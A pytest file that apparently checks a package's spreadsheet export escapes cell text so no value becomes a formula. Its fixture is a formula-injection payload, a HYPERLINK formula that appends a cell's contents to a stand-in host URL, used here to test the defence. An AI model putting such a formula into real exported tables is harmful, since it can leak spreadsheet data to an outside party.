"""Words in a table never become a formula of a spreadsheet."""

from __future__ import annotations

from datetime import date

import pytest

from askwhy.fit.cells import read_cell, write_cell
from askwhy.fit.facts import read_facts, write_facts
from askwhy.fit.providers import Capability, Relation, read_providers, write_providers
from askwhy.fit.relation import Event, Fact

FORMULA = '=HYPERLINK("https://example.com/?"&A1)'


@pytest.mark.parametrize(
    "text", [FORMULA, "+1 ten bars", "-5 %", "@all", "'=1", "''-x", "it's", "'quoted'", "", "10 = ten"]
)
def test_a_cell_reads_as_it_was_written(text: str) -> None:
    assert read_cell(write_cell(text)) == text
    assert not write_cell(text).startswith(("=", "+", "-", "@"))


def test_a_table_of_providers_holds_no_formula() -> None:
    able = Capability(provider=FORMULA, relation=Relation.OTHER, name="+1", rating=2, why="-x", who="@me")
    table = write_providers([able])
    assert "'=HYPERLINK" in table
    assert ",=" not in table
    assert read_providers(table.encode(), "it") == (able,)


def test_a_table_of_facts_holds_no_formula() -> None:
    fact = Fact(on=date(2026, 11, 21), event=Event.WON, what=FORMULA, whom="=1")
    table = write_facts([fact])
    assert "'=HYPERLINK" in table
    assert ",=" not in table
    assert read_facts(table.encode(), "it") == (fact,)
